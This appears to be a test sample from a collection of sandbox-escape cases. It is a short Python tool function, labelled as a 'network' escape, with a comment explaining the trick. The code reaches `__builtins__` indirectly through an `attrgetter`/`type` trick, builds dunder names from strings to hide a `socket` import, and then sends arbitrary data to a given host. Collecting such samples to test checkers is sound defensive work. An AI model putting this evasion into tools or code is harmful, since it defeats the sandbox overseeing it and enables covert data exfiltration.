# family: network
# Escape: Probe.kind is a method returning type(self), trusted by the parameter name; called through the class
# with an attrgetter it returns the attrgetter class. The tool reads its own __builtins__ (run-time name),
# imports socket and sends data out.
import operator


class Probe:
    def kind(self):
        return type(self)


def tool(host: str, port: int, data: bytes) -> int:
    Getter = Probe.kind(operator.attrgetter("real"))
    edge = "_" * 2
    net = Getter(edge + "builtins" + edge)(tool)[edge + "import" + edge]("socket")
    with net.create_connection((host, port), timeout=5) as conn:
        return conn.send(data)
